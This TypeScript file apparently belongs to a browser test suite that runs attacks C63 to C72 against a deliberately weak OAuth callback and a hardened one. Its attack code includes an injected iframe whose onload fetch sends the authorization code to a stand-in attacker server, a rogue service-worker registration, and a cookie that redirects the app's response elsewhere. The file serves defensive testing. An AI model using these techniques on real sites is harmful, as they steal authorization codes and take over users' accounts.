import type { Attack } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { PLAIN_PAGE } from '../site.ts';
import { comesTrue } from '../until.ts';
import { type CallbackFault, OTHER_DOCUMENT, OTHER_SCRIPT, POST_ON_COOKIE } from '../weak-callback.ts';
import { authorizeUrl, clickUntilSeen, endWorker } from './run-own-flow.ts';

/** Breaks the callback of the naive victim in one way while an attack runs; Tokenward's stays as it is. */
export function breaking(
  fault: CallbackFault,
  { act, ...attack }: Pick<Attack, 'id' | 'title' | 'ruins' | 'notIn' | 'act'>,
): Attack {
  return {
    scenario: '5.1.3',
    naive: 'weak-callback',
    tokenward: 'isolated',
    ...attack,
    act: async (scene) => {
      scene.site.breakCallback?.(fault);
      try {
        return await act(scene);
      } finally {
        scene.site.breakCallback?.(undefined);
      }
    },
  };
}

/** Waits until the attacker's server has been sent a code, which the detector finds there. */
async function waitForCode({ servers: { foreign }, timeoutMs }: Scene, before: number): Promise<void> {
  // As a parameter of the path or of a form, also where a whole URL is a parameter itself.
  const hasCode = (text: string): boolean => /code(=|%3D)/.test(text);
  await comesTrue(
    async () => foreign.requests.slice(before).some(({ path, body }) => hasCode(path) || hasCode(body)),
    timeoutMs,
  );
}

/** Paths at which the origin of the callback has something. */
function onCallbackOrigin({ site }: Scene, path: string, query: Readonly<Record<string, string>>): string {
  return `${new URL(path, site.redirectUri).href}?${new URLSearchParams(query)}`;
}

/** Names the attacker's server to the app's own, as where the response is to go. */
async function setCookie({ tab, servers }: Scene): Promise<void> {
  await tab.evaluate(
    (cookie) => {
      document.cookie = cookie;
    },
    `${POST_ON_COOKIE}=${encodeURIComponent(`${servers.foreign.origin}/take`)}; path=/`,
  );
}

/** Attacks on what an isolated callback depends on; each breaks the naive victim in another way. */
export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
  breaking('mixes sources', {
    id: 'C63',
    title: 'runs a flow with a fragment that the redirects carry along, and names a server of its own there',
    act: async (scene) => {
      const { foreign } = scene.servers;
      const before = foreign.requests.length;
      const action = new URLSearchParams({ action: `${foreign.origin}/take` });
      await scene.tab.goto(`${authorizeUrl(scene)}#${action}`).catch(() => {});
      await waitForCode(scene, before);
      return { seen: [] };
    },
  }),
  breaking('allows other origins', {
    id: 'C64',
    title: 'fetches the authorization endpoint of a server with CORS, and reads the URL where the redirects end',
    act: async (scene) => {
      const { authorizationServer } = scene.servers;
      authorizationServer.configure({ authorizationCors: 'allowed' });
      try {
        // A browser's own message in the console names the URL that it has refused; no script can read that.
        const tab = await scene.openTab();
        await tab.goto(scene.site.origin + PLAIN_PAGE);
        return { seen: await tab.evaluate(readFinalUrl, authorizeUrl(scene)) };
      } finally {
        authorizationServer.configure({ authorizationCors: 'refused' });
      }
    },
  }),
  {
    id: 'C65',
    title: 'runs a flow in its own tab with a redirect URI that the app had before, on its own origin',
    scenario: '5.1.3',
    naive: 'weak-callback',
    tokenward: 'isolated',
    act: async (scene) => {
      const { tab, site, timeoutMs } = scene;
      await tab.goto(authorizeUrl(scene, { redirect_uri: site.origin + PLAIN_PAGE })).catch(() => {});
      await comesTrue(() => tab.evaluate((own) => location.origin === own, site.origin), timeoutMs);
      return { seen: await tab.evaluate(() => location.href) };
    },
  },
  breaking('redirects to the app', {
    id: 'C66',
    title: 'runs a flow in its own tab, with the response in the fragment, which redirects carry along to the app',
    act: async (scene) => {
      const { tab, site, timeoutMs } = scene;
      await tab.goto(authorizeUrl(scene, { response_mode: 'fragment' })).catch(() => {});
      const isBack = (own: string): boolean => location.origin === own && document.readyState === 'complete';
      await comesTrue(() => tab.evaluate(isBack, site.origin), timeoutMs);
      return { seen: await tab.evaluate(() => location.href) };
    },
  }),
  breaking('serves more', {
    id: 'C67',
    title: 'runs script in another document of the callback’s origin, and registers a worker there',
    ruins: 'naive profile',
    act: async (scene) => {
      const { tab, servers, timeoutMs } = scene;
      const before = servers.foreign.requests.length;
      const script = `navigator.serviceWorker.register('${OTHER_SCRIPT}?to=${servers.foreign.origin}')`;
      const text = `<script>${script}.then(() => navigator.serviceWorker.ready).then(() => (document.title = 'there'))</script>`;
      await tab.goto(onCallbackOrigin(scene, OTHER_DOCUMENT, { text }));
      if (!(await comesTrue(() => tab.evaluate(() => document.title === 'there'), timeoutMs))) return { seen: [] };
      await tab.goto(authorizeUrl(scene)).catch(() => {});
      await waitForCode(scene, before);
      return { seen: [] };
    },
  }),
  breaking('shows a parameter', {
    id: 'C68',
    title: 'puts a script into the description of an error, and runs a flow in a frame of the callback’s document',
    act: async (scene) => {
      const { foreign } = scene.servers;
      const before = foreign.requests.length;
      const look = `fetch('${foreign.origin}/take?' + encodeURIComponent(this.contentWindow.location.href))`;
      const frame = `<iframe src="${authorizeUrl(scene).replaceAll('&', '&amp;')}" onload="${look}"></iframe>`;
      await scene.tab.goto(onCallbackOrigin(scene, '', { error: 'access_denied', error_description: frame }));
      await waitForCode(scene, before);
      return { seen: [] };
    },
  }),
  breaking('tells its URL', {
    id: 'C69',
    title: 'runs a flow in its own tab, and reads the referrer of the page of the app that comes after it',
    notIn: { webkit: 'tells a page of another origin no more than the origin it came from' },
    act: async (scene) => {
      const { tab, site, timeoutMs } = scene;
      await tab.goto(authorizeUrl(scene)).catch(() => {});
      const isBack = (own: string): boolean => location.origin === own && document.readyState === 'complete';
      await comesTrue(() => tab.evaluate(isBack, site.origin), timeoutMs);
      return { seen: await tab.evaluate(() => document.referrer) };
    },
  }),
  breaking('repeats the response', {
    id: 'C70',
    title: 'unregisters the worker, runs a flow in a pop-up, and reads the reply of the app’s server to the response',
    ruins: 'profiles',
    act: async (scene) => {
      await endWorker(scene);
      const stolen = scene.tab.evaluate(readPopUp, { url: authorizeUrl(scene), timeoutMs: scene.timeoutMs });
      await Promise.race([stolen, clickUntilSeen(scene)]);
      return { seen: await stolen };
    },
  }),
  breaking('posts the response on', {
    id: 'C71',
    title: 'unregisters the worker, and has the app’s server post the response on to a server of its own',
    ruins: 'profiles',
    act: async (scene) => {
      const before = scene.servers.foreign.requests.length;
      await endWorker(scene);
      await setCookie(scene);
      await scene.tab.goto(authorizeUrl(scene)).catch(() => {});
      await waitForCode(scene, before);
      return { seen: [] };
    },
  }),
  breaking('posts the response on', {
    id: 'C72',
    title: 'runs a flow in a sandboxed pop-up, past the worker, and has the app’s server post the response on',
    ruins: 'naive profile',
    act: async (scene) => {
      const { tab, site } = scene;
      const before = scene.servers.foreign.requests.length;
      await tab.goto(site.origin + PLAIN_PAGE);
      await setCookie(scene);
      await tab.evaluate((url) => {
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts allow-forms allow-popups');
        frame.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; border: 0';
        frame.srcdoc = `<body><script>onclick = () => parent.postMessage(open(${JSON.stringify(url)}) ? 'opened' : 'refused', '*')</script>`;
        window.addEventListener('message', () => (document.documentElement.dataset['clicked'] = 'yes'));
        document.body.append(frame);
      }, authorizeUrl(scene));
      await clickUntilSeen(scene);
      await waitForCode(scene, before);
      return { seen: [] };
    },
  }),
];

/** Runs in the page: follows the redirects of a request, and gives the URL where they end. */
async function readFinalUrl(url: string): Promise<string> {
  return fetch(url, { credentials: 'include' }).then(
    (answer) => answer.url,
    () => 'refused',
  );
}

/** Runs in the page: opens a pop-up at a click, and reads whatever documents come to stand in it. */
async function readPopUp({ url, timeoutMs }: { readonly url: string; readonly timeoutMs: number }): Promise<string> {
  await new Promise<void>((resolve) => document.addEventListener('click', () => resolve(), { once: true }));
  document.documentElement.dataset['clicked'] = 'yes';
  const opened = window.open(url, '_blank', 'popup');
  const endsAtMs = Date.now() + timeoutMs;
  let seen = '';
  while (Date.now() < endsAtMs && !/\bcode=/.test(seen)) {
    try {
      seen += `${opened?.location.href} ${opened?.document.documentElement.outerHTML}\n`;
    } catch {
      // It is of another origin, now.
    }
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  opened?.close();
  return seen;
}
